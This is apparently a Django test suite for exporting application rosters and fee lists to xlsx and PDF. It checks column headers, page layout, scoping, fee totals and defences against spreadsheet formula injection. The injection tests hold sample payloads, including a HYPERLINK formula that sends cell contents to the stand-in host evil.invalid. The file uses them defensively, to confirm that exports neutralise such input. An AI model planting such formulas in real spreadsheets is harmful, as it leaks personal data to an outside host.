"""Rosters (花名册, notice 003 附件8) and fee lists (缴费清单) from real applications."""

from __future__ import annotations

import datetime as dt

from django.db import connection
from django.test.utils import CaptureQueriesContext

from applications.enums import Kind
from applications.models import Application, Campaign, Level
from applications.rules import fee_for
from applications.samples import fill_sample_application, sample_sections
from applications.snapshot import ROSTER_COLUMNS, build_snapshot
from applications.states import State
from review.aftercare.models import FeePayment
from review.documents.export_files import (
    render_fee_list_pdf,
    render_fee_list_xlsx,
    render_roster_pdf,
    render_roster_xlsx,
)
from review.documents.exports import (
    INCLUDE_SUBMITTED,
    fee_is_paid,
    fee_list_for,
    load_campaign,
    roster_for,
)
from review.documents.models import ScopeKind
from review.documents.scope import ExportScope
from tests.factories import ApplicationFactory, UnitFactory

from .conftest import A4_LANDSCAPE, A4_PORTRAIT, climb_to_accepted, page_sizes, page_texts, squeeze, workbook

TODAY = dt.date(2026, 9, 1)
EXPECTED_HEADER = ["序号", "工作单位", "单位性质", "姓名", "性别", "族别", "出生年月", "最高学历", "何时、何校何专业毕业",
                   "专业技术工作年限", "现任专业技术职务", "获现任专业技术职务时间", "拟晋升专业技术职务", "是否继续教育",
                   "备注"]


def bulk_accepted(count: int, *, unit, state=State.ACCEPTED, kind=Kind.REVIEW, level_code="intermediate",
                  campaign_code="demo"):
    """Many applications quickly: sample sections and their snapshot, state set directly.  (The
    chain itself is exercised by ``climb_to_accepted``; here only the number of rows matters.)"""
    campaign = Campaign.objects.get(code=campaign_code)
    level = Level.objects.get(code=level_code)
    apps = []
    for _ in range(count):
        app = ApplicationFactory(unit=unit, campaign=campaign, kind=kind, level=level)
        sections = sample_sections(name=app.applicant.real_name, id_number=app.applicant.id_number,
                                   unit_name=unit.name, unit_nature=unit.nature, county=unit.county.name,
                                   year=campaign.year, level_code=level_code)
        app.snapshot = build_snapshot(app, sections)
        app.submission_count = 1
        app.save()
        apps.append(app)
    Application.objects.filter(pk__in=[a.pk for a in apps]).update(state=state)
    return apps


def record_payments(apps) -> None:
    """Fee payments as the clerk records them (issue 7), the rule engine's amount each."""
    for app in apps:
        FeePayment.objects.create(application=app, amount=fee_for(app.campaign, app.level, app.kind),
                                  paid_on=TODAY, receipt_number=f"T-{app.pk}")


def unit_scope(unit) -> ExportScope:
    return ExportScope(ScopeKind.UNIT, unit.pk, unit.name)


def committee_scope(campaign) -> ExportScope:
    return ExportScope(ScopeKind.COMMITTEE, campaign.committee_id, campaign.committee.name)


def test_roster_header_is_exactly_notice_003_attachment_8():
    assert ROSTER_COLUMNS == EXPECTED_HEADER


def test_roster_xlsx_from_accepted_applications(reference, private_storage):
    app = climb_to_accepted(fill_sample_application(ApplicationFactory()))
    campaign = load_campaign(app.campaign_id)
    data = roster_for(campaign=campaign, scope=unit_scope(app.unit), generated_on=TODAY).as_data()
    book = workbook(render_roster_xlsx(data))
    sheet = book.worksheets[0]
    assert [c.value for c in sheet[3]] == EXPECTED_HEADER
    first = [c.value for c in sheet[4]]
    snapshot = app.snapshot
    assert first[0] == 1 and first[1] == app.unit.name and first[3] == app.applicant.real_name
    assert first[5:10] == [snapshot["ethnicity"], snapshot["birth_month"], snapshot["highest_education"],
                           snapshot["graduation"], snapshot["work_years"]]
    assert first[12] == "工程师"
    assert sheet.freeze_panes == "A4"
    assert sheet.page_setup.orientation == "landscape" and str(sheet.page_setup.paperSize) == "9"
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.column_dimensions["B"].width >= 25 and sheet.column_dimensions["I"].width >= 30
    assert f"{campaign.year}年度工程系列职称评审申报人员花名册" == sheet["A1"].value  # the demo: this year


def test_roster_pdf_is_landscape_a4_with_the_header_on_every_page(reference):
    unit = UnitFactory(name="巴州质量与计量检测所（测试）")
    apps = bulk_accepted(45, unit=unit)
    campaign = load_campaign(apps[0].campaign_id)
    data = roster_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY).as_data()
    pdf = render_roster_pdf(data)
    assert pdf.pages >= 2
    assert set(page_sizes(pdf.content)) == {A4_LANDSCAPE}
    texts = page_texts(pdf.content)
    for text in texts:
        assert "".join(EXPECTED_HEADER) in squeeze(text)
    everything = "".join(texts)
    for app in apps:
        assert app.applicant.real_name in everything


def test_roster_includes_only_accepted_unless_asked_for_all_submitted(reference):
    unit = UnitFactory()
    accepted = bulk_accepted(2, unit=unit)
    reviewing = bulk_accepted(1, unit=unit, state=State.COUNTY_REVIEW)
    bulk_accepted(1, unit=unit, state=State.DRAFT)
    bulk_accepted(1, unit=unit, state=State.RETURNED)
    campaign = load_campaign(accepted[0].campaign_id)
    default = roster_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY)
    assert [r[3] for r in default.rows] == [a.applicant.real_name for a in accepted]
    everything = roster_for(campaign=campaign, scope=unit_scope(unit), include=INCLUDE_SUBMITTED, generated_on=TODAY)
    names = [r[3] for r in everything.rows]
    assert set(names) == {a.applicant.real_name for a in accepted + reviewing}
    remark = everything.rows[names.index(reviewing[0].applicant.real_name)][14]
    assert remark == "待主管/县市审核"


def test_roster_scope_is_the_officers_scope(reference):
    mine, other = UnitFactory(), UnitFactory()
    bulk_accepted(2, unit=mine)
    bulk_accepted(3, unit=other)
    campaign = load_campaign(Campaign.objects.get(code="demo").pk)
    assert len(roster_for(campaign=campaign, scope=unit_scope(mine), generated_on=TODAY).rows) == 2
    assert len(roster_for(campaign=campaign, scope=committee_scope(campaign), generated_on=TODAY).rows) == 5
    county = ExportScope(ScopeKind.COUNTY, mine.county_id, "")
    assert len(roster_for(campaign=campaign, scope=county, generated_on=TODAY).rows) == 5  # both in 库尔勒市


def test_roster_query_count_does_not_grow_with_rows(reference):
    unit = UnitFactory()
    campaign = load_campaign(Campaign.objects.get(code="demo").pk)
    counts = []
    for batch in (3, 30):
        bulk_accepted(batch, unit=unit)
        with CaptureQueriesContext(connection) as queries:
            roster = roster_for(campaign=campaign, scope=committee_scope(campaign), generated_on=TODAY)
            fees = fee_list_for(campaign=campaign, scope=committee_scope(campaign), generated_on=TODAY)
        counts.append(len(queries))
        assert len(roster.rows) == len(fees.rows)
    assert counts[0] == counts[1] <= 3


def test_fee_list_totals_are_the_rule_engines_fees(reference, private_storage):
    unit = UnitFactory()
    bulk_accepted(3, unit=unit)  # 中级 评审
    bulk_accepted(2, unit=unit, level_code="junior")  # 初级 评审
    bulk_accepted(2, unit=unit, kind=Kind.INITIAL, level_code="junior")  # 初次确定 初级
    paid = bulk_accepted(2, unit=unit, state=State.FEE_PAID)
    award = bulk_accepted(1, unit=unit, state=State.DEFENSE_EXEMPT, kind=Kind.AWARD)
    # Paid means a payment record (issue 7), whatever the state.
    record_payments([*paid, *award])
    bulk_accepted(1, unit=unit, state=State.UNIT_REVIEW)  # not accepted: no fee yet
    campaign = load_campaign(Campaign.objects.get(code="demo").pk)
    fees = fee_list_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY)


    accepted = Application.objects.filter(unit=unit).exclude(state=State.UNIT_REVIEW).select_related("level")
    expected_due = sum(fee_for(campaign, a.level, a.kind) or 0 for a in accepted)
    expected_paid = sum(fee_for(campaign, a.level, a.kind) or 0 for a in accepted if fee_is_paid(application=a))
    assert expected_due == 3 * 380 + 2 * 220 + 2 * 100 + 2 * 380 + 380
    assert fees.overall["due"] == expected_due and fees.overall["paid"] == expected_paid == 3 * 380
    assert fees.overall["count"] == len(fees.rows) == 10
    assert {t["kind"]: t["due"] for t in fees.totals} == {"评审": 3 * 380 + 2 * 220 + 2 * 380, "初次确定": 200,
                                                          "授予": 380}
    assert sum(t["due"] for t in fees.totals) == fees.overall["due"]
    assert {r["name"] for r in fees.rows if r["paid"]} == {a.applicant.real_name for a in paid} | {
        a.applicant.real_name for a in accepted if a.state == State.DEFENSE_EXEMPT}

    data = fees.as_data()
    sheet = workbook(render_fee_list_xlsx(data)).worksheets[0]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    overall = next(row for row in values if row[1] == "合计")
    assert overall[2:7] == [10, expected_due, 3, expected_paid, expected_due - expected_paid]
    assert sum(row[6] for row in values[3:13]) == expected_due

    pdf = render_fee_list_pdf(data)
    assert set(page_sizes(pdf.content)) == {A4_PORTRAIT}
    text = squeeze("".join(page_texts(pdf.content)))
    assert f"合计10{expected_due}3{expected_paid}{expected_due - expected_paid}" in text


def test_fee_list_of_a_notice_without_fees(reference):
    unit = UnitFactory()
    bulk_accepted(2, unit=unit, kind=Kind.INITIAL, level_code="junior", campaign_code="yq-2024-chuding")
    campaign = load_campaign(Campaign.objects.get(code="yq-2024-chuding").pk)
    fees = fee_list_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY)
    assert [r["amount"] for r in fees.rows] == [None, None]
    assert fees.overall["due"] == 0
    sheet = workbook(render_fee_list_xlsx(fees.as_data())).worksheets[0]
    assert [sheet.cell(row=4 + i, column=7).value for i in range(2)] == ["—", "—"]


def test_fee_counts_as_paid_from_its_payment_record_not_the_state(reference):
    """Paper and fee arrive in either order: paid before the paper is complete is still paid;
    fee_paid state without a record (data put there by hand) is not."""
    unit = UnitFactory()
    early, late = bulk_accepted(1, unit=unit), bulk_accepted(1, unit=unit, state=State.FEE_PAID)
    record_payments(early)
    campaign = load_campaign(Campaign.objects.get(code="demo").pk)
    rows = {r["name"]: r["paid"] for r in fee_list_for(campaign=campaign, scope=unit_scope(unit),
                                                        generated_on=TODAY).rows}
    assert rows == {early[0].applicant.real_name: True, late[0].applicant.real_name: False}


def test_same_data_same_bytes(reference):
    unit = UnitFactory()
    bulk_accepted(3, unit=unit)
    campaign = load_campaign(Campaign.objects.get(code="demo").pk)
    once = roster_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY).as_data()
    twice = roster_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY).as_data()
    assert render_roster_xlsx(once) == render_roster_xlsx(twice)
    assert render_roster_pdf(once).content == render_roster_pdf(twice).content



# --- Formula injection (issue 13) --------------------------------------------------------------

EVIL = ['=HYPERLINK("http://evil.invalid/?"&D5&E5,"巴州建筑设计研究院")', "=2+3", "+1+1", "-2+3", "@SUM(A1:A2)",
        "\t=1+1", "\r=1+1"]


def _cells(content: bytes):
    book = workbook(content)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> list[str]:
    """No cell is a formula and no text would become one when edited; returns the texts."""
    cells = _cells(content)
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    return texts


def test_roster_and_fee_list_xlsx_hold_no_formula_whatever_the_applicant_typed(reference):
    unit = UnitFactory(name=EVIL[0])
    apps = bulk_accepted(len(EVIL), unit=unit)
    from applications.models import Application

    for app, evil in zip(apps, EVIL, strict=True):
        Application.objects.filter(pk=app.pk).update(snapshot={
            **app.snapshot, "unit_name": evil, "ethnicity": "=2+3", "graduation": evil, "current_title": "@cmd",
            "remarks": evil, "name": evil})
    campaign = load_campaign(Campaign.objects.get(code="demo").pk)
    roster = render_roster_xlsx(roster_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY).as_data())
    texts = assert_no_formula(roster)
    assert "'=2+3" in texts and "'" + EVIL[0] in texts  # kept, readable, and inert
    fees = render_fee_list_xlsx(fee_list_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY).as_data())
    assert "'" + EVIL[1] in assert_no_formula(fees)


def test_spreadsheet_neutralise_leaves_ordinary_text_alone():
    from portal.spreadsheet import neutralise

    assert [neutralise(t) for t in ("巴州建筑设计研究院", "—", "2026-09-01", "a=b")] == \
        ["巴州建筑设计研究院", "—", "2026-09-01", "a=b"]
    assert [neutralise(t) for t in EVIL] == ["'" + t for t in EVIL]


def test_results_publicity_xlsx_holds_no_formula_whatever_the_names():
    from review.aftercare.exports import COLUMNS, publicity_list_xlsx

    rows = [[n, evil, "=1", evil, "工程系列", evil, "中级", "@x", "通过"] for n, evil in enumerate(EVIL, start=1)]
    data = {"title": "=TITLE()", "intro": "-1", "period": "+2", "contacts": "@联系人", "committee": EVIL[0],
            "dated": "2026年12月1日", "columns": COLUMNS, "rows": rows}
    texts = assert_no_formula(publicity_list_xlsx(data))
    assert "'" + EVIL[0] in texts and "'=TITLE()" in texts
